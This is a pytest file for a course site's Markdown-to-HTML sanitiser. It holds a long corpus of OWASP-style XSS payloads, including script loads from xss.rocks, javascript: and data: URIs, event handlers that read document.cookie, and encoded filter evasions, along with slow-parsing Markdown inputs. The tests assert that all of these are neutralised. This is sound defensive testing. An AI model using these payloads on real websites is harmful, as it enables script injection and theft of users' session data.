"""Markdown -> safe HTML: features that must work, and a corpus of known XSS payloads
(OWASP XSS filter evasion cheat sheet style, plus Markdown-specific ones) that must not."""

import html
import re
from html.parser import HTMLParser

import pytest

from app.courses import content

FILES = "/courses/khoa/files/"

XSS = [
    "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>",
    "<script>alert('XSS')</script>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/"
    "onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    "&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;"
    "&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
    "&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72"
    "&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<SCRIPT/SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.rocks/xss.css>; REL=stylesheet\">",
    "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,"
    "PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</p>",
    "<a href=\"#\" style=\"position:fixed;inset:0\">overlay</a>",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3Jn"
    "LzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\" type=\"image/svg+xml\" "
    "AllowScriptAccess=\"always\"></EMBED>",
    "<SCRIPT a=\">\" SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<a href=\"javas&#99;ript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<img src=\"https://tracker.example/p.gif\">",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    # Markdown-specific
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](&#106;avascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    "![x](//evil.example/track.png)",
    "<img src=\"/\\evil.example/x.png\">",
    "<img src=\"\\\\evil.example/x.png\">",
    "![x](/\\evil.example/x.png)",
    "<img src=\"/\tevil.example\">",
    "![x](/courses/other/quiz)",
    "![x](/courses/khoa/quiz)",
    "![x](/auth/logout)",
    "<img src=\"/courses/khoa/files/../quiz\">",
    "<img src=\"/courses/khoa/files/%2e%2e/quiz\">",
    "![x](files/../../quiz)",
    "![x](files/a.png?x=1#y)",
    "![x](x.png)",
    "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
    "![x\" onerror=\"alert(1)](x.png)",
    "[x](x.png \"t\\\" onmouseover=\\\"alert(1)\")",
    "```\n</code><script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <iframe src=\"//evil.example\"></iframe>",
    "* <a href=\"javascript:alert(1)\" onclick=\"alert(2)\">x</a>",
]

BAD_SCHEME = re.compile(r"^(javascript|vbscript|data|livescript|mocha):", re.IGNORECASE)


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def _parse(out: str):
    parser = _Collector()
    parser.feed(out)
    parser.close()
    return parser.tags


# Exactly what may come out, per tag: the allow-list, the values the sanitiser sets itself
# (class, loading, rel) and align on table cells. Anything else is a leak.
EXPECTED_ATTRIBUTES = {tag: set(names) for tag, names in content.ATTRIBUTES.items()}
for _tag, _values in content.SET_ATTRIBUTES.items():
    EXPECTED_ATTRIBUTES.setdefault(_tag, set()).update(_values)
EXPECTED_ATTRIBUTES["a"].add("rel")
for _cell in ("th", "td"):
    EXPECTED_ATTRIBUTES[_cell].add("align")
FIXED_VALUES = {(tag, name): value for tag, values in content.SET_ATTRIBUTES.items()
                for name, value in values.items()}
FIXED_VALUES[("a", "rel")] = "noopener noreferrer"
# As a browser reads an image URL: anything with a scheme, "//host", "/\\host", "\\host".
OFF_ORIGIN = re.compile(r"^([a-z][a-z0-9+.-]*:|[/\\]{2})", re.IGNORECASE)
COURSE_FILE = re.compile(r"^/courses/khoa/files/[A-Za-z0-9][A-Za-z0-9._%()-]*$")


def _assert_safe(out: str, where: str) -> None:
    assert "<script" not in out.lower(), where
    for tag, attrs in _parse(out):
        assert tag in content.TAGS | {"div"}, f"{where}: tag {tag}"
        if tag == "div":  # the scrolling wrapper added around tables
            assert attrs == [("class", "table-responsive")], where
            continue
        for name, value in attrs:
            assert name in EXPECTED_ATTRIBUTES.get(tag, set()), f"{where}: {tag}[{name}]"
            if (tag, name) in FIXED_VALUES:
                assert value == FIXED_VALUES[(tag, name)], f"{where}: {tag}[{name}]={value}"
            if name == "align":
                assert value in content.ALIGN, where
            if name in ("width", "height", "start", "colspan", "rowspan"):
                assert value.isdigit(), f"{where}: {tag}[{name}]={value}"
            if name in ("href", "src") and value is not None:
                # as a browser reads a URL: outer blanks dropped, tabs and newlines removed,
                # backslashes read as slashes
                cleaned = re.sub(r"[\t\n\r]", "", html.unescape(value).strip("\x00\x20\x0c"))
                assert not BAD_SCHEME.match(cleaned), f"{where}: {name}={value}"
                if tag == "img":
                    assert not OFF_ORIGIN.match(cleaned), f"{where}: off-origin image {value}"
                    # and only this course's own files, nothing else of the site
                    assert COURSE_FILE.match(cleaned), f"{where}: image {value}"


@pytest.mark.parametrize("payload", XSS)
def test_xss_payloads_are_neutralised(payload):
    out = content.render_markdown(payload, FILES)
    _assert_safe(out, payload)
    # sanitising the output again changes nothing (no mutation-based XSS)
    again = content.sanitise(out, FILES)
    assert _shape(again) == _shape(out), payload


def _shape(out: str):
    return [(tag, sorted(attrs)) for tag, attrs in _parse(out) if tag != "div"]


@pytest.mark.parametrize("payload", XSS)
def test_xss_payloads_inside_markdown_structure(payload):
    source = f"# Tiêu đề\n\n- mục {payload}\n\n| cột |\n|---|\n| {payload} |\n\n> {payload}\n"
    _assert_safe(content.render_markdown(source, FILES), payload)


def test_markdown_features_survive():
    source = (
        "# Tiêu đề\n\n## Mục\n\nĐoạn có **đậm**, *nghiêng*, `mã` và [liên kết](https://"
        "thuvienphapluat.vn/van-ban) và [tệp](files/bieu-mau.pdf).\n\n"
        "- một\n- hai\n\n1. thứ nhất\n2. thứ hai\n\n"
        "| Chỉ tiêu | Mức |\n|:--|--:|\n| Hộ nghèo | 1-1,5% |\n\n"
        "![Sơ đồ](files/so-do.png)\n\n> Trích dẫn\n\n```\nmã\n```\n")
    out = content.render_markdown(source, FILES)
    for fragment in ('<h1 class="h4">Tiêu đề</h1>', '<h2 class="h5">Mục</h2>',
                     "<strong>đậm</strong>", "<em>nghiêng</em>", "<code>mã</code>",
                     'href="https://thuvienphapluat.vn/van-ban"', 'rel="noopener noreferrer"',
                     'href="/courses/khoa/files/bieu-mau.pdf"', "<li>một</li>",
                     "<ol>", '<div class="table-responsive"><table class="table table-sm',
                     '<th align="left">Chỉ tiêu</th>', '<td align="right">1-1,5%</td>',
                     'src="/courses/khoa/files/so-do.png"', 'alt="Sơ đồ"', 'loading="lazy"',
                     "<blockquote>", "<pre><code>mã"):
        assert fragment in out, fragment


def test_file_links_are_found_and_rewritten():
    source = "[a](files/a.pdf) ![b](../files/b.png) [c](./files/c%20d.docx) [x](other.pdf)"
    assert content.file_links(source) == ["a.pdf", "b.png", "c d.docx"]
    out = content.render_markdown(source, FILES)
    assert 'href="/courses/khoa/files/a.pdf"' in out
    assert 'src="/courses/khoa/files/b.png"' in out
    assert 'href="/courses/khoa/files/c%20d.docx"' in out
    assert 'href="other.pdf"' in out


def test_cache_is_reused_until_the_source_changes():
    html_a, hash_a = content.cached("**a**", FILES, "", "")
    assert "<strong>a</strong>" in html_a
    # same source: the cached text is returned as is (not rendered again)
    assert content.cached("**a**", FILES, "CACHED", hash_a) == ("CACHED", hash_a)
    html_b, hash_b = content.cached("**b**", FILES, "CACHED", hash_a)
    assert hash_b != hash_a and "<strong>b</strong>" in html_b
    # another course (files base) or another renderer version is another cache key
    assert content.source_hash("**a**", "/courses/other/files/") != hash_a


def test_unsafe_markup_hint():
    assert content.has_unsafe_markup("<script>alert(1)</script>")
    assert content.has_unsafe_markup('<img src=x onerror="x">')
    assert content.has_unsafe_markup("[a](javascript:alert(1))")
    assert not content.has_unsafe_markup("## Bài 1\n\nNội dung **bình thường**, a < b.")


def test_images_only_from_this_course():
    out = content.render_markdown(
        "![a](files/so-do.png) ![b](/courses/khoa/files/so-do.png) ![c](/courses/khac/files/x.png)"
        " ![d](/courses/khoa/quiz) ![e](/\\evil.example/x.png) ![f](so-do.png)", FILES)
    sources = [dict(attrs).get("src") for tag, attrs in _parse(out) if tag == "img"]
    assert sources == ["/courses/khoa/files/so-do.png", "/courses/khoa/files/so-do.png",
                       None, None, None, None]
    # links may still go anywhere on the site (a click is the reader's choice)
    link = content.render_markdown("[bài kiểm tra](/courses/khoa/quiz)", FILES)
    assert 'href="/courses/khoa/quiz"' in link
    # without a course (no files base) no image survives
    assert "src=" not in content.render_markdown("![a](files/so-do.png)")


# --- malformed Markdown: refused with a line, or rendered in linear time --------------------

NESTED_TABS = "\n".join("\t" * i + "- x" for i in range(300))  # 46 KB, 300 levels


def test_deep_nesting_is_refused_with_its_line():
    found = content.problems(NESTED_TABS)
    assert len(found) == 1 and found[0].line == 21  # "\t" * 20 + "- ": 21 levels
    assert str(found[0]).startswith("Dòng 21: thụt lề hoặc danh sách/trích dẫn lồng nhau quá sâu")
    with pytest.raises(content.ContentError) as caught:
        content.render_markdown(NESTED_TABS, FILES)
    assert caught.value.line == 21
    for source in ("- " * 30 + "x", "> " * 30 + "x", "1. " * 25 + "x",
                   "intro\n\n" + " " * 90 + "code"):
        assert content.problems(source), source
    # twenty levels are fine, and so are a long thematic break and indented fenced code
    fine = "\n".join("    " * i + "- x" for i in range(20))
    assert content.problems(fine) == [] and "<ul>" in content.render_markdown(fine)
    assert content.problems("- " * 30 + "-") == []  # "- - - ... -" is a horizontal rule
    fenced = "```\n" + "\n".join(" " * 200 + "x" for _ in range(3)) + "\n```"
    assert content.problems(fenced) == []
    # an unclosed fence is no fence, nor is "```" followed by two words: still checked
    assert content.problems("```\n" + NESTED_TABS)[0].line == 22
    assert content.problems("```a b\n" + NESTED_TABS + "\n```")[0].line == 22


def test_too_long_and_too_many_lines_in_a_row():
    found = content.problems("a" * (content.MAX_SOURCE_CHARS + 1))
    assert "quá dài" in found[0].message and "100.000" in found[0].message
    rows = "| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 400
    found = content.problems(rows)
    assert found[0].line == 1 and "hơn 300 dòng liền nhau" in found[0].message
    # blank lines reset the count; fenced code does not count
    assert content.problems(("x\n" * 200 + "\n") * 3) == []
    assert content.problems("```\n" + "x\n" * 1000 + "```") == []


@pytest.mark.parametrize(("source", "literal"), [
    ("[" * 40_000, "[" * 40_000),  # 142 s before
    ("[a](" * 20_000, "[a](" * 20_000),  # 80 KB, 63 s before
    ("[a][" * 10_000, "[a][" * 10_000),
    ("*[" * 20_000, None),
    ("[" * 20_000 + "]" * 20_000, "[" * 20_000 + "]" * 20_000),
    ("[a](" * 10_000 + ")" * 10_000, None),
    ("<a " * 13_000, "&lt;a " * 13_000),  # a start tag open to the end
    ("<a x=\">\"" * 8_000, None),
    ("</a" * 20_000, None),
    ("# a|\n" * 250, None),
])
def test_pathological_markdown_renders_as_text(source, literal):
    """Each of these took seconds to minutes (quadratic scanning); now they are rendered at
    once, as the text they are (measured by hand: well under a second each)."""
    out = content.render_markdown(source, FILES)
    text = html.unescape(re.sub(r"<[^>]+>", "", out))
    assert "<a href" not in out and "<script" not in out
    if literal is not None:
        assert html.unescape(literal) in text or literal in out


def test_bracket_guard_keeps_real_links():
    """A long paragraph full of links is over the bracket budget: only unmatched and absurdly
    nested brackets are neutralised; every link stays a link and the text is unchanged."""
    links = " ".join(f"[liên kết {i}](https://a.example/{i}) và [^{i}] và `mã [{i}`"
                     for i in range(300))
    source = links + " và [không đóng và \\[ thoát"
    assert source.count("[") * len(source) > content.BRACKET_BUDGET
    out = content.render_markdown(source, FILES)
    assert out.count("<a href") == 300 and out.count("<code>") == 300
    assert "[không đóng" in out and "[^7]" in out and "<code>mã [7</code>" in out
    assert "\x02" not in out and "\x03" not in out


def test_recursion_is_a_content_error_and_readers_see_text(monkeypatch):
    def explode(self, source):
        raise RecursionError("maximum recursion depth exceeded")

    monkeypatch.setattr(content.markdown.Markdown, "convert", explode)
    content._render.cache_clear()
    with pytest.raises(content.ContentError) as caught:
        content.render_markdown("- sâu <b>quá</b>", FILES)
    assert "lồng nhau quá sâu" in caught.value.message
    html_out, digest = content.cached("- sâu <b>quá</b>\n\nđoạn hai", FILES, "", "")
    assert html_out == "<p>- sâu &lt;b&gt;quá&lt;/b&gt;</p><p>đoạn hai</p>"
    assert digest == content.source_hash("- sâu <b>quá</b>\n\nđoạn hai", FILES)
    content._render.cache_clear()
